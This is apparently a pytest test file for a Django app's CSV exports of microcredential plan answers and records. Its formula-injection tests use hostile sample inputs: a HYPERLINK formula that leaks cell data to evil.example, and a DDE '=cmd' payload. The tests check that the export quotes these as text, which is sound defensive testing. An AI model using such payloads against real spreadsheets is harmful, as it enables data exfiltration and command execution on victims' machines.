"""The CSV exports across plans: the answers CSV and one CSV per record type."""

import csv
import datetime
import io
import re
from decimal import Decimal

import pytest
from django.db.models import Max
from django.urls import reverse
from django.utils import timezone

from microcred.plans.answers import save_answer
from microcred.plans.archive import archive_plan
from microcred.plans.models import Answer, PlanMembership
from microcred.plans.record_rows import save_record
from microcred.questionnaires.selectors import flatten
from microcred.records.cells import Column
from microcred.records.registry import REGISTRY
from microcred.reports.content import plan_report_context
from microcred.transfer.csv_cells import (
    FORMULA_STARTS,
    NUMBER,
    number_cell,
    record_cells,
    text_cell,
)
from microcred.transfer.csv_export import (
    ANSWER_HEADER,
    answer_rows_by_plan,
    csv_chunks,
    record_rows_by_plan,
)
from planning.models import CostLine
from tests.factories import PlanFactory, UserFactory, add_member

pytestmark = pytest.mark.django_db

ANSWERS_URL = reverse("transfer:csv_answers")
BOM = b"\xef\xbb\xbf"
CREDENTIAL_MODEL = "What is the model for microcredential program?"


def records_url(record_type: str) -> str:
    return reverse("transfer:csv_records", kwargs={"record_type": record_type})


def download(client, url) -> tuple[bytes, list[list[str]]]:
    """The file's bytes and its rows as a spreadsheet reads them (header first)."""
    response = client.get(url)
    assert response.status_code == 200
    assert response.streaming
    body = b"".join(response.streaming_content)
    return body, list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def answer_cells(rows, *, plan, key) -> list[str]:
    """The Answer, Answered by and Answered at cells of one plan's question."""
    (row,) = [r for r in rows[1:] if r[0] == str(plan.pk) and r[7] == key]
    return row[9:]


def add_question(plan, kind: str, key: str, **fields):
    """A question of `kind` at the end of the plan's Strategic Planning phase."""
    phase = plan.template_version.phases.get(slug="strategic-planning")
    last = phase.questions.aggregate(last=Max("order"))["last"]
    return phase.questions.create(
        version=plan.template_version,
        key=key,
        order=last + 1,
        text=f"The {key.replace('_', ' ')}?",
        kind=kind,
        **fields,
    )


def answer(plan, key_or_question, value, user):
    question = (
        plan.template_version.questions.get(key=key_or_question)
        if isinstance(key_or_question, str)
        else key_or_question
    )
    save_answer(plan=plan, question=question, raw_value=value, base_revision=0, user=user)


def test_answers_csv_is_utf8_with_a_bom_a_header_and_crlf_line_ends(client, plan, owner):
    client.force_login(owner)
    response = client.get(ANSWERS_URL)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="plan-answers-{timezone.localdate().isoformat()}.csv"'
    )
    body = b"".join(response.streaming_content)
    assert body.startswith(BOM + b"Plan id,Plan title,Organization,Status,Template version,")
    assert body.count(b"\r\n") == plan.template_version.questions.count() + 1
    assert body.replace(b"\r\n", b"").count(b"\n") == 0  # no answer here has a line break
    header = next(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert header == [
        "Plan id",
        "Plan title",
        "Organization",
        "Status",
        "Template version",
        "Phase",
        "Question number",
        "Question key",
        "Question",
        "Answer",
        "Answered by",
        "Answered at",
    ]
    assert header == ANSWER_HEADER


def test_one_row_per_question_of_the_demo_plan_numbered_as_in_the_pdf(client, demo_plan):
    client.force_login(demo_plan.created_by)
    _, rows = download(client, ANSWERS_URL)
    report = plan_report_context(demo_plan)
    in_pdf = [
        (section.phase.title, item.number, item.question.key, item.question.text)
        for section in report["sections"]
        for item in flatten(section.items)
    ]
    assert [tuple(row[5:9]) for row in rows[1:]] == in_pdf
    assert len(rows) - 1 == demo_plan.template_version.questions.count()
    plan_cells = [
        str(demo_plan.pk),
        "Data Privacy Fundamentals",
        "Northbridge Institute for Information Governance",
        "Draft",
        str(demo_plan.template_version.number),
    ]
    assert all(row[:5] == plan_cells for row in rows[1:])
    (drivers,) = [row for row in rows if row[7] == "business_case_drivers"]
    assert drivers[5:11] == [
        "Strategic Planning",
        "1.1",
        "business_case_drivers",
        "To drive revenue, volume, or other?",
        "Revenue, Volume, Other: Member retention and a pipeline into the NGP",
        "Maya Patel",
    ]
    (price_tiers,) = [row for row in rows if row[7] == "price_tiers"]
    assert price_tiers[6] == "5.1.1"
    assert price_tiers[9] == "6 rows, see planning.price_tiers.csv"


def test_answers_as_text_for_each_kind(client, plan, owner, editor, settings):
    settings.TIME_ZONE = "America/Toronto"
    questions = {
        "short": add_question(plan, "short_text", "short"),
        "long": add_question(plan, "long_text", "long"),
        "yes_no": add_question(plan, "yes_no", "yes_no"),
        "single": add_question(plan, "single_choice", "single", choices=["A"], allow_other=True),
        "multiple": add_question(
            plan, "multiple_choice", "multiple", choices=["A", "B"], allow_other=True
        ),
        "number": add_question(plan, "number", "number"),
        "money": add_question(plan, "money", "money"),
        "date": add_question(plan, "date", "day"),
    }
    answer(plan, questions["short"], "Short words", owner)
    answer(plan, questions["long"], "First line.\nSecond line.", owner)
    answer(plan, questions["yes_no"], {"choice": "yes", "explanation": "Because."}, owner)
    answer(plan, questions["single"], {"choice": "other", "other": "Guild"}, owner)
    answer(plan, questions["multiple"], {"choices": ["B", "other"], "other": "C"}, owner)
    answer(plan, questions["number"], "-1,250.5", editor)
    answer(plan, questions["money"], {"amount": "1250", "currency": "EUR"}, owner)
    answer(plan, questions["date"], "2026-09-01", owner)
    stakeholders = plan.template_version.questions.get(key="stakeholders")
    for name in ("Council", "Employers"):
        save_record(
            plan=plan,
            question=stakeholders,
            data={"name": name, "side": "internal", "consultation": "survey"},
            user=owner,
        )
    summer = datetime.datetime(2026, 7, 1, 12, 0, tzinfo=datetime.UTC)
    Answer.objects.filter(plan=plan, question=questions["number"]).update(updated_at=summer)
    client.force_login(owner)
    _, rows = download(client, ANSWERS_URL)

    def text(key):
        return answer_cells(rows, plan=plan, key=key)[0]

    assert text("short") == "Short words"
    assert text("long") == "First line.\nSecond line."
    assert text("yes_no") == "Yes. Because."
    assert text("single") == "Other: Guild"
    assert text("multiple") == "B, Other: C"
    assert text("number") == "-1250.5"  # a true number: no quote before its minus sign
    assert text("money") == "1,250.00 EUR"
    assert text("day") == "1 September 2026"
    assert text("stakeholders") == "2 rows, see planning.stakeholders.csv"
    assert answer_cells(rows, plan=plan, key="number")[1:] == [
        "Eddie Editor",
        "2026-07-01T08:00:00-04:00",  # in the site's time zone
    ]
    assert answer_cells(rows, plan=plan, key="business_case") == ["", "", ""]


def test_a_question_that_does_not_apply_says_why_and_its_rows_are_left_out(client, plan, owner):
    answer(plan, "credential_model", {"choice": "Stackable", "other": ""}, owner)
    components = plan.template_version.questions.get(key="stack_components")
    save_record(
        plan=plan,
        question=components,
        data={"title": "Privacy Basics badge", "requirement": "required", "learning_hours": "10"},
        user=owner,
    )
    client.force_login(owner)
    _, stackable = download(client, records_url("design.stack_components"))
    assert [row[:3] for row in stackable[1:]] == [
        [str(plan.pk), "Data Privacy Fundamentals", "Privacy Basics badge"]
    ]
    answer_is_certificate = Answer.objects.get(plan=plan, question__key="credential_model")
    answer_is_certificate.value = {"choice": "Certificate", "other": ""}
    answer_is_certificate.save()

    _, rows = download(client, ANSWERS_URL)
    assert answer_cells(rows, plan=plan, key="stack_components") == [
        f"Not applicable: Applies when the answer to “{CREDENTIAL_MODEL}” is “Stackable”.",
        "",
        "",
    ]
    _, certificate = download(client, records_url("design.stack_components"))
    assert certificate[1:] == []


def test_a_record_type_csv_has_each_row_with_its_plan_and_its_cells(client, demo_plan):
    client.force_login(demo_plan.created_by)
    response = client.get(records_url("planning.price_tiers"))
    assert response["Content-Disposition"] == (
        f'attachment; filename="planning.price_tiers-{timezone.localdate().isoformat()}.csv"'
    )
    _, rows = download(client, records_url("planning.price_tiers"))
    plan = [str(demo_plan.pk), "Data Privacy Fundamentals"]
    assert rows == [
        ["Plan id", "Plan title", "Tier", "Audience", "Price", "Price currency", "Seats",
         "Valid from", "Valid to"],
        [*plan, "Early adopter, member", "Early adopter", "245.00", "USD", "", "2027-06-14",
         "2027-12-31"],
        [*plan, "Early adopter, non-member", "Early adopter", "345.00", "USD", "", "2027-06-14",
         "2027-12-31"],
        [*plan, "Member", "Member", "295.00", "USD", "", "2028-01-01", ""],
        [*plan, "Non-member", "Non-member", "395.00", "USD", "", "2028-01-01", ""],
        [*plan, "Organization licence, 10 seats (15% off)", "Organization licence",
         "2507.50", "USD", "10", "2027-09-01", ""],
        [*plan, "Exam only", "Candidates who prepare on their own", "195.00", "USD", "",
         "2027-09-01", ""],
    ]  # fmt: skip
    _, platforms = download(client, records_url("delivery.platforms"))
    assert platforms[0][2:] == [
        "Product",
        "Vendor",
        "Role",
        "Integrates with",
        "Integration status",
    ]
    assert platforms[-1][2:] == [
        "Program reporting dashboard",
        "Microsoft Power BI",
        "Reporting",
        "CredentialDesk, ProctorPoint Online",
        "Tested",
    ]
    _, channels = download(client, records_url("marketing.channels"))
    assert channels[1][2:] == [
        "Announcement to members and NGP holders",
        "Early-career records, compliance, HR and IT staff at member organizations",
        "1500.00",
        "USD",
        "2027-06-07",
    ]


def test_a_record_type_csv_holds_values_spreadsheets_can_sum_and_sort(client, demo_plan):
    client.force_login(demo_plan.created_by)
    plan = [str(demo_plan.pk), "Data Privacy Fundamentals"]
    _, cycles = download(client, records_url("maintenance.review_cycles"))
    assert cycles[:4] == [
        ["Plan id", "Plan title", "Review", "What is reviewed", "Every (months)", "Owner",
         "Last done", "Next due"],
        [*plan, "Learning module review", "Content", "12",
         "Priya Raman, Senior Instructional Designer", "", "2028-06-01"],
        [*plan, "Exam form refresh", "Assessment", "12", "Exam development committee", "",
         "2028-09-01"],
        [*plan, "Blueprint revalidation (job task analysis)", "Assessment", "36",
         "Dr. Samuel Osei, Director of Psychometrics", "2026-06-30", "2029-06-30"],
    ]  # fmt: skip
    _, people = download(client, records_url("operations.key_personnel"))
    assert [row[2:] for row in people[1:3]] == [
        ["Dana Whitfield", "Program lead, Manager of Credential Programs", "Manages", "0.2"],
        [
            "Dr. Samuel Osei",
            "Assessment lead, Director of Psychometrics",
            "Manages and monitors",
            "0.1",
        ],
    ]
    _, costs = download(client, records_url("planning.cost_lines"))
    assert costs[0][2:] == ["Item", "Category", "Amount", "Amount currency", "Year"]
    assert costs[1][2:] == [
        "Blueprint, item writing and standard setting",
        "Development",
        "70000.00",
        "USD",
        "Year 1",
    ]


@pytest.mark.parametrize(
    ("field", "value", "cells"),
    [
        ("every_year", True, ["true"]),
        ("every_year", False, ["false"]),
        ("amount", Decimal("-1234567.5"), ["-1234567.50", "EUR"]),
        ("amount", None, ["", ""]),
        ("item", "=1+1", ["'=1+1"]),  # text stays protected from formulas
        ("item", "-5 on the invoice", ["'-5 on the invoice"]),
    ],
)
def test_each_value_is_written_as_a_spreadsheet_computes_with_it(field, value, cells):
    cost_line = CostLine(item="Venue", category="delivery", currency="EUR")
    setattr(cost_line, field, value)
    column = Column(field=field, currency="currency" if field == "amount" else "")
    assert record_cells(cost_line, column) == cells


def test_every_record_type_has_a_csv(client, demo_plan):
    client.force_login(demo_plan.created_by)
    for name, record_type in REGISTRY.items():
        _, rows = download(client, records_url(name))
        assert rows[0] == ["Plan id", "Plan title"] + [
            heading
            for column in record_type.column_list()
            for heading in [column.heading, f"{column.heading} currency"][
                : 2 if column.currency else 1
            ]
        ], name
        assert len(rows) - 1 == record_type.model.objects.filter(plan=demo_plan).count(), name


def test_an_unknown_record_type_is_404(client, owner):
    client.force_login(owner)
    assert client.get(records_url("planning.nothing")).status_code == 404


def test_cells_that_spreadsheets_would_run_are_quoted_as_text(client, plan, owner):
    number = add_question(plan, "number", "number")
    answer(plan, "business_case", '=HYPERLINK("http://evil.example/?"&A1,"Click")', owner)
    answer(plan, "value_proposition", "@SUM(A1:A9)", owner)
    answer(plan, "market_need", "+1", owner)
    answer(plan, "strategic_target_audience", "-1", owner)
    answer(plan, number, "-1", owner)
    stakeholders = plan.template_version.questions.get(key="stakeholders")
    save_record(
        plan=plan,
        question=stakeholders,
        data={"name": "=1+1", "side": "internal", "consultation": "survey"},
        user=owner,
    )
    plan.title = "=cmd|' /C calc'!A0"
    plan.save()
    client.force_login(owner)
    _, rows = download(client, ANSWERS_URL)
    assert answer_cells(rows, plan=plan, key="business_case")[0] == (
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    )
    assert answer_cells(rows, plan=plan, key="value_proposition")[0] == "'@SUM(A1:A9)"
    assert answer_cells(rows, plan=plan, key="market_need")[0] == "'+1"
    assert (
        answer_cells(rows, plan=plan, key="strategic_target_audience")[0] == "'-1"
    )  # typed as text
    assert answer_cells(rows, plan=plan, key="number")[0] == "-1"  # a number question's number
    assert {row[1] for row in rows[1:]} == {"'=cmd|' /C calc'!A0"}
    _, records = download(client, records_url("planning.stakeholders"))
    assert records[1][:3] == [str(plan.pk), "'=cmd|' /C calc'!A0", "'=1+1"]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTabbed", "'\tTabbed"),
        ("\rReturned", "'\rReturned"),
        ("1+1", "1+1"),
        (" =1", " =1"),
        ("", ""),
        # A part a spreadsheet may split off as a cell of its own: after a semicolon or a
        # tab (the list separators of other locales and imports), a comma, a line break.
        ("x;=1+1", "x;'=1+1"),
        ("x\t=1+1", "x\t'=1+1"),
        ("x,@SUM(A1)", "x,'@SUM(A1)"),
        ("Costs:\r\n-2+3+cmd|' /C calc'!A0", "Costs:\r\n'-2+3+cmd|' /C calc'!A0"),
        ("x\r+1", "x\r'+1"),
        ("x;\t=1", "x;\t'=1"),
        ("=1;=2", "'=1;'=2"),
        ("Costs; - room, - tutor", "Costs; - room, - tutor"),
        ("From 1;2 to 3,4", "From 1;2 to 3,4"),
    ],
)
def test_text_cells_starting_like_a_formula_get_a_quote(text, cell):
    assert text_cell(text) == cell


SPLIT_FORMULAS = [
    "x;=1+1",
    "x;=HYPERLINK(A1)",
    "Name\t@SUM(A1)",
    "a,+1",
    "Costs:\n-2+3+cmd|' /C calc'!A0",
    "Costs:\r\n=1+1;",
    "x;\t=1",
    "x;\r=1",
]


def parts_a_spreadsheet_may_split_off(body: str) -> list[str]:
    """Every piece of the file between separators of any locale (comma, semicolon, tab)
    and line breaks, as a spreadsheet that splits on them without regard to quotes reads
    it: a piece that opens a quoted field is read from inside the quotes."""
    pieces = re.split(r"[,;\t\r\n]", body)
    return [piece[1:] if piece.startswith('"') else piece for piece in pieces]


def test_no_part_a_spreadsheet_may_split_off_starts_like_a_formula(client, plan, owner):
    phase = plan.template_version.phases.get(slug="strategic-planning")
    keys = [
        question.key
        for question in phase.questions.filter(kind="long_text").order_by("order")[
            : len(SPLIT_FORMULAS)
        ]
    ]
    for key, text in zip(keys, SPLIT_FORMULAS, strict=True):
        answer(plan, key, text, owner)
    stakeholders = plan.template_version.questions.get(key="stakeholders")
    save_record(
        plan=plan,
        question=stakeholders,
        data={"name": "Council;=1+1", "side": "internal", "consultation": "survey"},
        user=owner,
    )
    client.force_login(owner)
    for url in (ANSWERS_URL, records_url("planning.stakeholders")):
        body, rows = download(client, url)
        text = body.decode("utf-8-sig")
        risky = [
            piece
            for piece in parts_a_spreadsheet_may_split_off(text)
            if piece.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(piece)
        ]
        assert risky == [], url
    # Read back as CSV, each cell is the text with a quote before each such part.
    _, rows = download(client, ANSWERS_URL)
    assert [answer_cells(rows, plan=plan, key=key)[0] for key in keys] == [
        "x;'=1+1",
        "x;'=HYPERLINK(A1)",
        "Name\t'@SUM(A1)",
        "a,'+1",
        "Costs:\n'-2+3+cmd|' /C calc'!A0",
        "Costs:\n'=1+1;",
        "x;\t'=1",
        "x;\r'=1",
    ]
    _, records = download(client, records_url("planning.stakeholders"))
    assert records[1][2] == "Council;'=1+1"


@pytest.mark.parametrize(
    ("number", "cell"),
    [
        (-1, "-1"),
        ("-1,250.5", "-1,250.5"),
        ("12.5", "12.5"),
        ("-1+2", "'-1+2"),  # not wholly a number: text, and quoted
        ("-1e3", "'-1e3"),
        ("At least -5%", "At least -5%"),
    ],
)
def test_only_whole_numbers_are_numeric_cells(number, cell):
    assert number_cell(number) == cell


def test_a_title_with_commas_quotes_and_line_breaks_reads_back_whole(client, owner):
    title = 'Privacy, "Basics"\nand more,\r\nwith a second line'
    plan = PlanFactory(title=title, organization='Guild, "North"', created_by=owner)
    client.force_login(owner)
    _, rows = download(client, ANSWERS_URL)
    assert {(row[1], row[2]) for row in rows[1:]} == {(title, 'Guild, "North"')}
    assert len(rows) - 1 == plan.template_version.questions.count()


def test_each_person_gets_the_plans_they_may_see_archived_ones_included(
    client, plan, owner, viewer, outsider, superuser, template_version
):
    answer(plan, "business_case", "Revenue.", owner)
    stakeholders = plan.template_version.questions.get(key="stakeholders")
    save_record(
        plan=plan,
        question=stakeholders,
        data={"name": "Council", "side": "internal", "consultation": "survey"},
        user=owner,
    )
    PlanFactory(title="Outsider's plan", created_by=outsider)
    archived = PlanFactory(title="Old plan", created_by=owner, template_version=template_version)
    archive_plan(plan=archived, user=owner)

    def plans_in(user, url=ANSWERS_URL):
        client.force_login(user)
        _, rows = download(client, url)
        return {(row[1], row[3]) for row in rows[1:]} if url == ANSWERS_URL else rows[1:]

    assert plans_in(outsider) == {("Outsider's plan", "Draft")}
    assert plans_in(outsider, records_url("planning.stakeholders")) == []
    assert plans_in(viewer) == {("Data Privacy Fundamentals", "Draft")}
    assert plans_in(owner) == {("Data Privacy Fundamentals", "Draft"), ("Old plan", "Archived")}
    assert plans_in(superuser) == {
        ("Data Privacy Fundamentals", "Draft"),
        ("Outsider's plan", "Draft"),
        ("Old plan", "Archived"),
    }
    assert [row[:3] for row in plans_in(superuser, records_url("planning.stakeholders"))] == [
        [str(plan.pk), "Data Privacy Fundamentals", "Council"]
    ]


def test_a_person_without_plans_gets_the_header_alone(client, outsider, template_version):
    client.force_login(outsider)
    body, rows = download(client, ANSWERS_URL)
    assert rows == [ANSWER_HEADER]
    assert body == BOM + ",".join(ANSWER_HEADER).encode() + b"\r\n"


def test_anonymous_people_are_sent_to_log_in(client, plan):
    for url in (ANSWERS_URL, records_url("planning.price_tiers")):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"] == f"{reverse('login')}?next={url}"


def plans_of(owner, template_version, count):
    for n in range(count):
        plan = PlanFactory(title=f"Plan {n}", created_by=owner, template_version=template_version)
        answer(plan, "business_case", f"Case {n}.", owner)
        answer(plan, "credential_model", {"choice": "Stackable", "other": ""}, owner)
        save_record(
            plan=plan,
            question=plan.template_version.questions.get(key="stack_components"),
            data={"title": f"Badge {n}", "requirement": "required", "learning_hours": "10"},
            user=owner,
        )
        add_member(plan, UserFactory(username=f"viewer{n}"), PlanMembership.Role.VIEWER)


# The session and the user, then per batch the plans and their answers; the template
# version's questions once.
ANSWERS_CSV_QUERIES = 5
# The session and the user, then per batch the plans, the controlling answers and the
# rows; the record-set questions and the condition questions once.
RECORDS_CSV_QUERIES = 7


@pytest.mark.parametrize("count", [3, 6])
def test_the_answers_csv_takes_the_same_queries_for_3_plans_as_for_6(
    client, owner, template_version, django_assert_num_queries, count
):
    plans_of(owner, template_version, count)
    client.force_login(owner)
    with django_assert_num_queries(ANSWERS_CSV_QUERIES):
        body = b"".join(client.get(ANSWERS_URL).streaming_content)
    assert body.count(b",Case ") == count


@pytest.mark.parametrize("count", [3, 6])
def test_a_record_type_csv_takes_the_same_queries_for_3_plans_as_for_6(
    client, owner, template_version, django_assert_num_queries, count
):
    plans_of(owner, template_version, count)
    client.force_login(owner)
    with django_assert_num_queries(RECORDS_CSV_QUERIES):
        body = b"".join(client.get(records_url("design.stack_components")).streaming_content)
    assert body.count(b",Badge ") == count


def test_queries_grow_with_the_batches_not_the_rows(
    owner, template_version, django_assert_num_queries
):
    plans_of(owner, template_version, 6)
    # Three batches of two: per batch the plans and their answers, the questions once, and
    # the query that finds no fourth batch.
    with django_assert_num_queries(3 * 2 + 1 + 1):
        groups = list(answer_rows_by_plan(user=owner, batch_size=2))
    per_plan = template_version.questions.count()
    assert [len(rows) for rows in groups] == [per_plan] * 6
    components = REGISTRY["design.stack_components"]
    # Per batch the plans, the controlling answers and the rows; the two kinds of questions
    # once; the query that finds no fourth batch.
    with django_assert_num_queries(3 * 3 + 2 + 1) as captured:
        groups = list(record_rows_by_plan(user=owner, record_type=components, batch_size=2))
    assert [[row[2] for row in rows] for rows in groups] == [[f"Badge {n}"] for n in range(6)]
    # The rows come alone: not each with its plan, question, phase and version.
    rows_queries = [q["sql"] for q in captured if 'FROM "design_stackcomponent"' in q["sql"]]
    assert len(rows_queries) == 3
    assert not any("JOIN" in sql for sql in rows_queries)


def test_the_file_is_written_a_plan_at_a_time():
    chunks = list(csv_chunks(["A", "B"], iter([[["1", "x"]], [["2", "y,z"]], []])))
    assert chunks == [
        "\ufeffA,B\r\n1,x\r\n".encode(),
        b'2,"y,z"\r\n',
    ]


def test_the_plan_list_links_to_every_csv(client, plan, owner):
    client.force_login(owner)
    content = client.get(reverse("plans:list")).content.decode()
    assert '<h2 class="h6 mb-1" id="csv-downloads-heading">Download as CSV</h2>' in content
    assert (
        f'<a href="{ANSWERS_URL}" download>Answers (one row per plan and question)</a>' in content
    )
    for name, record_type in REGISTRY.items():
        assert f'<a href="{records_url(name)}" download>{record_type.label}</a>' in content
